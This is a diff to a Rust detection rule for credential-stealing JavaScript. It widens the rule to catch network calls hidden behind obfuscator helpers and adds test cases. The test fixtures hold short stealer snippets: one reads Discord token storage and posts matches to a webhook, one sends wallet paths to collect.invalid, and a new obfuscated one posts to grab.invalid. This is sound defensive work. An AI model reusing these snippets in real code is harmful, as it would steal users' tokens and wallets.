@@ -84,9 +84,20 @@ impl Rule for CredentialStealer {
             if targets.is_empty() {
                 continue;
             }
+            // A URL in a file that loads an HTTP client counts as a request
+            // even when the call itself hides behind obfuscator helpers.
+            let loads_client = ctx.facts.imports.iter().any(|i| {
+                i.at.location.path == file
+                    && i.module.as_deref().is_some_and(|m| {
+                        crate::checkers::js::is_network_api(m)
+                            || matches!(m, "http" | "https" | "net" | "tls" | "undici")
+                    })
+            });
             let net = ctx.facts.network.iter().find(|n| {
                 n.at.location.path == file
-                    && (n.api.is_some() || n.collector.is_some())
+                    && (n.api.is_some()
+                        || n.collector.is_some()
+                        || (loads_client && n.destination.is_some()))
                     && !n.host_kind.is_some_and(|k| {
                         matches!(
                             k,
@@ -133,9 +144,11 @@ mod tests {
                     "const dir = process.env.APPDATA + '/discord/Local Storage/leveldb';\nfs.readdirSync(dir).forEach((f) => {\n  const m = fs.readFileSync(dir + '/' + f, 'utf8').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/);\n  if (m) fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: m[0] });\n});",
                 ),
                 Case::Js("const wallets = ['Exodus/exodus.wallet', 'Electrum/wallets'];\nrequire('axios').post('https://collect.invalid/w', { wallets });"),
+                Case::Js("const fetch = require('node-fetch');\nconst h = { go: (f, u, o) => f(u, o) };\nconst dir = process.env.APPDATA + '/discord/Local Storage/leveldb';\nconst re = /[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g;\nconst url = 'https://grab.invalid/t';\nh.go(fetch, url, { method: 'POST', body: dir });"),
             ],
             &[
                 Case::Js("const wallets = ['Exodus/exodus.wallet'];\nconsole.log(wallets);"),
+                Case::Js("const fetch = require('node-fetch');\nconst docs = 'https://docs.example.invalid/tokens';\nconst re = /[A-Za-z0-9]{32}/;\nmodule.exports = (s) => re.test(s);"),
                 Case::Js("const cfg = fs.readFileSync(home + '/.aws/credentials');\nfetch('https://sts.amazonaws.invalid/');"),
             ],
         );
